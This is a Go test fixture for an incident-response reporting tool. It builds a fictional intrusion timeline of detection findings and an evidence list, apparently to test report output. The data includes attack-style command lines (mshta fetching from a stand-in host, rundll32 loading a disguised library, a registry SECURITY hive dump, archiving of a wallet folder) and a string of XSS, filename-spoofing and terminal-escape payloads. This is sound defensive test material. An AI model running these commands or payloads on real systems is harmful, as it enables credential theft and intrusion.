package report

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/goshawk-ir/goshawk/internal/casefile"
	"github.com/goshawk-ir/goshawk/internal/finding"
)

// sampleStep is one kind of finding of the sample case.
type sampleStep struct {
	after  time.Duration // since the first
	host   string
	level  string
	title  string
	attack string
	repeat int
	every  time.Duration
	fields map[string]any
}

const hostileText = "<script>alert(1)</script><img src=x onerror=alert(2)> \u202egnp.exe\u202c \x1b[31mred\x1b[0m \u200bzero\u0085 \"'`--></style>"

// sampleStory is an intrusion over nine days, fictional in all its parts.
var sampleStory = []sampleStep{
	{0, "WS-ADA01.halden.example", "medium", "Document from the internet opened in Word", "T1204.002", 1, 0, map[string]any{"Image": `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "CommandLine": `"WINWORD.EXE" /n "C:\Users\ada.lindqvist\Downloads\Position_Details_2026.docm"`, "User": `HALDEN\ada.lindqvist`, "Hashes": "SHA256=3b1f0c9a6d5e4f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8"}},
	{74 * time.Second, "WS-ADA01.halden.example", "critical", "Office application started a script host", "T1218.005", 1, 0, map[string]any{"ParentImage": `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "Image": `C:\Windows\System32\mshta.exe`, "CommandLine": `mshta hxxps://link.careers-portal[.]example/d7`, "User": `HALDEN\ada.lindqvist`}},
	{80 * time.Second, "WS-ADA01.halden.example", "high", "PowerShell started hidden with an encoded command", "T1059.001", 4, 11 * time.Minute, map[string]any{"Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "CommandLine": "powershell.exe -w hidden -enc " + strings.Repeat("QQBCAEMA", 1250), "User": `HALDEN\ada.lindqvist`}},
	{5 * time.Minute, "WS-ADA01.halden.example", "low", "System information queried", "T1082", 9, 31 * time.Second, map[string]any{"Image": `C:\Windows\System32\systeminfo.exe`, "CommandLine": "systeminfo", "User": `HALDEN\ada.lindqvist`}},
	{6 * time.Minute, "WS-ADA01.halden.example", "medium", "Burst of discovery commands on one host", "T1087.002", 2, 26 * time.Hour, map[string]any{"Computer": "WS-ADA01.halden.example"}},
	{9 * time.Minute, "WS-ADA01.halden.example", "high", "Rundll32 loaded a library from a folder of the user", "T1218.011", 3, 25 * time.Hour, map[string]any{"CommandLine": `rundll32.exe C:\Users\ada.lindqvist\AppData\Local\Thumbs\thumbcache_64.db,Update 5Bk2`, "Image": `C:\Windows\System32\rundll32.exe`}},
	{11 * time.Minute, "WS-ADA01.halden.example", "medium", "Connection to a rare address by a system program", "T1071.001", 41, 3 * time.Hour, map[string]any{"Image": `C:\Windows\System32\rundll32.exe`, "DestinationIp": "203.0.113.77", "DestinationPort": 443, "DestinationHostname": "cdn.careers-portal.example"}},
	{20 * time.Hour, "WS-ADA01.halden.example", "high", "Service installed that runs a library", "T1543.003", 1, 0, map[string]any{"ServiceName": "Network Location Helper", "ImagePath": `%SystemRoot%\system32\rundll32.exe C:\Windows\System32\nlhelper.cat,Start`, "SubjectUserName": "ada.lindqvist"}},
	{26 * time.Hour, "WS-ADA01.halden.example", "critical", "Process opened LSASS with rights to read its memory", "T1003.001", 2, 3 * time.Minute, map[string]any{"SourceImage": `C:\Windows\Temp\dllhost.exe`, "TargetImage": `C:\Windows\System32\lsass.exe`, "GrantedAccess": "0x1410"}},
	{47 * time.Hour, "SRV-FILE02.halden.example", "medium", "Scheduled task made over the network", "T1053.005", 3, 40 * time.Minute, map[string]any{"TaskName": `\Microsoft\Windows\DiskCheck`, "SubjectUserName": "svc-backup", "IpAddress": "10.20.4.31"}},
	{48 * time.Hour, "SRV-FILE02.halden.example", "high", "File written to an administrative share", "T1021.002", 6, 9 * time.Minute, map[string]any{"ShareName": `\\*\ADMIN$`, "RelativeTargetName": `Temp\nlhelper.cat`, "IpAddress": "10.20.4.31", "SubjectUserName": "svc-backup"}},
	{72 * time.Hour, "SRV-FILE02.halden.example", "high", "Defender exclusion added", "T1685", 2, time.Hour, map[string]any{"New Value": `HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Windows\Temp = 0x0`}},
	{73 * time.Hour, "SRV-FILE02.halden.example", "medium", "Firewall rule added by a script", "T1686", 1, 0, map[string]any{"RuleName": hostileText, "ApplicationPath": `C:\Windows\Temp\dllhost.exe`}},
	{96 * time.Hour, "DC01.halden.example", "critical", "Security registry hive saved", "T1003.002", 1, 0, map[string]any{"CommandLine": `reg.exe save HKLM\SECURITY C:\Windows\Temp\s.tmp`, "SubjectUserName": "svc-backup"}},
	{97 * time.Hour, "DC01.halden.example", "high", "Security package added to LSA", "T1547.005", 1, 0, map[string]any{"TargetObject": `HKLM\System\CurrentControlSet\Control\Lsa\Security Packages`, "Details": "msv1_0 nlhelper"}},
	{98 * time.Hour, "DC01.halden.example", "low", "Account logged on with explicit credentials", "T1078", 24, 37 * time.Minute, map[string]any{"TargetUserName": "svc-backup", "SubjectUserName": "DC01$", "IpAddress": "10.20.4.31"}},
	{120 * time.Hour, "WS-MIKKEL.halden.example", "high", "Archive with a password made in a temporary folder", "T1560.001", 2, 14 * time.Minute, map[string]any{"CommandLine": `rar.exe a -hp C:\$Recycle.Bin\k.tmp "C:\Users\mikkel.rasmus\AppData\Roaming\Wallets"`, "User": `HALDEN\mikkel.rasmus`}},
	{121 * time.Hour, "WS-MIKKEL.halden.example", "medium", "Wallet folder read by a program that is no wallet", "T1005", 8, 2 * time.Minute, map[string]any{"ObjectName": `C:\Users\mikkel.rasmus\AppData\Roaming\Wallets\seed.dat`, "ProcessName": `C:\Windows\Temp\dllhost.exe`}},
	{190 * time.Hour, "WS-ADA01.halden.example", "critical", "Security log cleared", "T1070.001", 1, 0, map[string]any{"SubjectUserName": "svc-backup", "SubjectDomainName": "HALDEN"}},
	{190*time.Hour + 4*time.Second, "SRV-FILE02.halden.example", "critical", "Security log cleared", "T1070.001", 1, 0, map[string]any{"SubjectUserName": "svc-backup", "SubjectDomainName": "HALDEN"}},
	{191 * time.Hour, "SRV-FILE02.halden.example", "high", "Prefetch files deleted", "T1070.004", 5, 3 * time.Second, map[string]any{"TargetFilename": `C:\Windows\Prefetch\DLLHOST.EXE-A1B2C3D4.pf`, "Image": `C:\Windows\System32\cmd.exe`}},
	{2 * time.Hour, "WS-KIOSK.halden.example", "informational", "Program started for the first time", "", 96, 97 * time.Minute, map[string]any{"Image": `C:\Program Files\Viewer\viewer.exe`, "User": `HALDEN\kiosk`}},
	{3 * time.Hour, "WS-MIKKEL.halden.example", "informational", "Program started for the first time", "", 61, 141 * time.Minute, map[string]any{"Image": `C:\Program Files\Viewer\viewer.exe`, "User": `HALDEN\mikkel.rasmus`}},
	{30 * time.Hour, "WS-KIOSK.halden.example", "low", "Failed logon", "T1078", 12, 5 * time.Hour, map[string]any{"TargetUserName": "kiosk", "IpAddress": "-"}},
	{98 * time.Hour, "", "high", "One account on several hosts within an hour", "T1078", 1, 0, map[string]any{"TargetUserName": "svc-backup"}},
}

var sampleStart = time.Date(2026, 3, 2, 8, 41, 17, 215_000_000, time.UTC)

// sampleFindings tells the story, in order of time.
func sampleFindings(t testing.TB) []*finding.Finding {
	t.Helper()
	random := rand.New(rand.NewPCG(7, 11))
	var all []*finding.Finding
	for n, s := range sampleStory {
		fields, err := json.Marshal(s.fields)
		if err != nil {
			t.Fatal(err)
		}
		for k := range s.repeat {
			f := &finding.Finding{
				Time: sampleStart.Add(s.after + time.Duration(k)*s.every + time.Duration(random.IntN(900))*time.Millisecond), Host: s.host, Level: s.level, Title: s.title,
				Rule: finding.Rule{Kind: "sigma", ID: fmt.Sprintf("5d2a77b0-0000-4000-8000-%s", sampleHash(s.title)[:12]), Title: s.title}, Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1, Fields: fields,
			}
			if s.attack != "" {
				f.Attack = []string{s.attack}
			}
			f.Evidence = []finding.Evidence{samplePlace(s.host, n, k)}
			if s.title == "Burst of discovery commands on one host" || s.host == "" {
				f.Channel, f.EventID = "", 0
				for i := range 16 {
					e := samplePlace("WS-ADA01.halden.example", n, k*20+i+1)
					e.Time = f.Time.Add(time.Duration(i-15) * 7 * time.Second)
					f.Evidence = append(f.Evidence, e)
				}
				f.Evidence = f.Evidence[1:]
				f.First, f.Last = f.Evidence[0].Time, f.Time
			}
			f.ID = finding.NewID(f)
			all = append(all, f)
		}
	}
	slices.SortStableFunc(all, func(a, b *finding.Finding) int { return a.Time.Compare(b.Time) })
	return all
}

func samplePlace(host string, n, k int) finding.Evidence {
	name, _, _ := strings.Cut(host, ".")
	id := uint64(48_000 + n*1000 + k)
	return finding.Evidence{Path: "collection.zip!/" + name + "/C/Windows/System32/winevt/Logs/Sysmon.evtx", SHA256: sampleHash(name), RecordID: &id, Offset: int64(4096 + n*65536 + k*512), Recovered: n%9 == 8}
}

func sampleHash(seed string) string {
	sum := sha256.Sum256([]byte(seed))
	return hex.EncodeToString(sum[:])
}

func sampleEvidence() []*casefile.EvidenceFile {
	var files []*casefile.EvidenceFile
	for i, host := range []string{"DC01", "SRV-FILE02", "WS-ADA01", "WS-KIOSK", "WS-MIKKEL"} {
		base := "collection.zip!/" + host + "/C/Windows/System32/winevt/Logs/"
		full := host + ".halden.example"
		sysmon := &casefile.EvidenceFile{
			Path: base + "Sysmon.evtx", SHA256: sampleHash(host), Bytes: int64(i+3) * 21_041_152, Kind: "evtx", Parser: "evtx", Original: "C:/Windows/System32/winevt/Logs/Sysmon.evtx", Host: host, Status: casefile.StatusRead,
			Records: int64(i+2) * 31_411, First: sampleStart.Add(-40 * time.Hour), Last: sampleStart.Add(200 * time.Hour),
			Hosts: []casefile.HostStat{{Name: full, Records: int64(i+2) * 31_411, First: sampleStart.Add(-40 * time.Hour), Last: sampleStart.Add(200 * time.Hour)}},
		}
		security := &casefile.EvidenceFile{Path: base + "Security.evtx", SHA256: sampleHash(host + "sec"), Bytes: 20_975_616, Kind: "evtx", Parser: "evtx", Host: host, Status: casefile.StatusRead, Records: 17_220, First: sysmon.First, Last: sysmon.Last}
		if host == "SRV-FILE02" {
			at := int64(0x31000)
			security.Status, security.Recovered, security.ProblemCount = casefile.StatusPartly, 211, 24
			security.Problems = []casefile.Problem{{Offset: &at, What: "read chunk 49: checksum mismatch"}, {What: "the header counts 320 chunks, the file holds 318"}}
		}
		files = append(files, security, sysmon)
	}
	return append(files,
		&casefile.EvidenceFile{Path: "collection.zip!/WS-ADA01/C/pagefile.sys", SHA256: sampleHash("pagefile"), Bytes: 4 << 30, Kind: "data", Status: casefile.StatusNotParsed},
		&casefile.EvidenceFile{Path: "notes " + hostileText + ".txt", SHA256: sampleHash("notes"), Bytes: 1201, Kind: "text", Status: casefile.StatusNotParsed},
		&casefile.EvidenceFile{Path: "locked.7z", Bytes: 91_022, Kind: "7z", Status: casefile.StatusUnreadable, ProblemCount: 1, Problems: []casefile.Problem{{What: "open: encrypted, and no password fits"}}})
}

func sampleInfo() *casefile.Case {
	return &casefile.Case{
		Tool: casefile.Tool{Name: "goshawk", Version: "0.1.0", Revision: "4f1c2d9", Go: "go1.26.0", OS: "linux", Arch: "amd64"}, Title: "Halden Custody, March 2026",
		Command: []string{"goshawk", "investigate", "./collection.zip", "./locked.7z", "--case", "./halden"}, Started: sampleStart.Add(400 * time.Hour), Finished: sampleStart.Add(400*time.Hour + 41*time.Second),
		Evidence: []casefile.Argument{{Path: "./collection.zip", Files: 12, Bytes: 2_204_112_004}, {Path: "./locked.7z", Files: 1, Bytes: 91_022}}, Attack: "19",
		Rules:      []casefile.RuleSet{{Path: "embedded rules", SHA256: sampleHash("rules"), Rules: 131, Correlations: 14, Refused: 1}},
		Refused:    []casefile.Refusal{{Path: "rules/broken.yml", Line: 12, Column: 3, What: "unknown modifier \"containz\" (did you mean contains?)"}},
		LogSources: sampleHash("sources"),
	}
}

// writeSample writes a case with all outputs and returns its folder.
func writeSample(t testing.TB, dir string, findings []*finding.Finding, info *casefile.Case) string {
	t.Helper()
	dir = filepath.Join(dir, "case")
	w, err := casefile.Create(dir, true)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Abort()
	for _, f := range sampleEvidence() {
		if err := w.Evidence(f); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range findings {
		if err := w.Findings(linesOf(f)); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := WriteAll(context.Background(), w, info); err != nil {
		t.Fatal(err)
	}
	if err := w.Finish(info); err != nil {
		t.Fatal(err)
	}
	return dir
}

func linesOf(f *finding.Finding) *casefile.Lines {
	l := &casefile.Lines{}
	l.Add(f)
	return l
}
